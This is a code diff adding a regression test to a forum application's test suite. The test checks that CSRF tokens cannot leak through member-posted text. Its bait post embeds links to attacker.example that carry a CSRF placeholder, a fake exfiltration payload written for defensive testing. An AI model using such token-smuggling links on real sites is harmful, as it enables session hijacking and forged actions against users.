@@ -244,6 +244,21 @@ def test_members_share_a_cached_page_but_each_sees_their_own_rights_and_token(me
     assert deleted.status_code == 303  # the token taken from the cached page works
 
 
+def test_member_text_cannot_carry_readers_csrf_tokens_off_site(member, other, forum):
+    # The old fixed placeholder and the live one: neither may turn into a reader's token in a link.
+    bait = (f"[old](https://attacker.example/log?t=csrf-placeholder-9d1c) "
+            f"[live](https://attacker.example/log?t={CSRF_PLACEHOLDER}) "
+            f'and name="csrf" value="{CSRF_PLACEHOLDER}" in text')
+    topic_id = topic_id_of(start_topic(member.client, body=bait))
+    reply_to(other, topic_id, bait)
+    for reader in (member.client, other):
+        html = reader.get(f"/forum/t/{topic_id}/").text
+        token = re.search(r'name="csrf" value="([^"]+)"', html).group(1)
+        fields = len(re.findall(f'name="csrf" value="{token}"', html))
+        assert html.count(token) == fields > 0  # the token appears only in hidden form fields
+        assert "attacker.example/log?t=" + token not in html
+
+
 def test_reading_a_topic_again_writes_nothing(member, other, forum, app):
     topic_id = topic_id_of(start_topic(other))
     db = app.state.portal.db
